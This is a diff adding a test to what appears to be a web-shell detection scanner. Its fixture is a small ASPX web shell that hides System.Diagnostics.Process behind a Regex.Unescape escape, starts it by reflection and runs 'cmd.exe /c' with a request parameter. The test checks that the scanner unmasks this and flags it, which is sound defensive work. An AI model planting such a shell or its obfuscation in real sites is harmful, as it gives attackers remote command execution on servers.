@@ -331,6 +331,21 @@ def test_escaped_accents_in_a_string_are_left_alone() -> None:
     assert not any("unicode escapes" in f for f in report.folded)
 
 
+# `"\\u0053ystem..."` is a backslash (written `\\`) and the text `u0053ystem...`, which
+# Regex.Unescape turns into `System...`: the name must be folded from the string as written.
+REGEX_ESCAPED = """<%@ Page Language="C#" %>
+<% Type t = Type.GetType(System.Text.RegularExpressions.Regex.Unescape("\\\\u0053ystem.Diagnostics.Process"));
+   t.GetMethod("Start", new[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "cmd.exe", "/c " + Request["c"] }); %>"""
+
+
+def test_an_escaped_backslash_before_u_is_no_unicode_escape() -> None:
+    assert '"\\\\u0053ystem' in REGEX_ESCAPED
+    report = run("esc.aspx", REGEX_ESCAPED)
+    assert "called by reflection as Process.Start" in chain_of(report, "EXH-WS-CODE-PROCESS")
+    assert "System.Diagnostics.Process" in report.folded
+    assert not any("unicode escapes" in f for f in report.folded)
+
+
 # ----------------------------------------------------------------------------- PowerShell, listeners, controls
 
 POWERSHELL = """<%@ Page Language="C#" %>
